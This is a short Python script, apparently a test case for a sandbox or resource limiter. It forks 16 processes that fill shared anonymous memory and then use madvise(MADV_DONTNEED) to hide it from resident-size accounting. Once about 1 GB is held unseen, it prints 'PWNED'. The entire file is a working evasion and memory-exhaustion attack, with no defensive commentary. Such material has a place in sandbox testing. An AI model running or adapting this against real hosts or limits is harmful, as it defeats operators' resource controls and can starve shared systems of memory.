"""Fill shared anonymous memory and drop it from our page tables: it stays, but no resident size shows it.

Shows: PWNED on stdout.
Lasts: to the time limit, where it is stopped by waiting.
"""

import mmap
import os
import time
from contextlib import suppress

reader, writer = os.pipe()
for _ in range(16):
    with suppress(OSError):
        if os.fork() == 0:
            areas = []
            with suppress(OSError, ValueError):
                for _ in range(4):
                    area = mmap.mmap(-1, 32 << 20)
                    area[::4096] = b"x" * (32 << 8)
                    area.madvise(mmap.MADV_DONTNEED)
                    areas.append(area)
                    os.write(writer, b"1")
            time.sleep(60)
            os._exit(0)
os.close(writer)
held = 0
while held < 1 << 30:
    held += len(os.read(reader, 1)) * (32 << 20)
time.sleep(0.3)
print("PWNED", held >> 20, "MB")
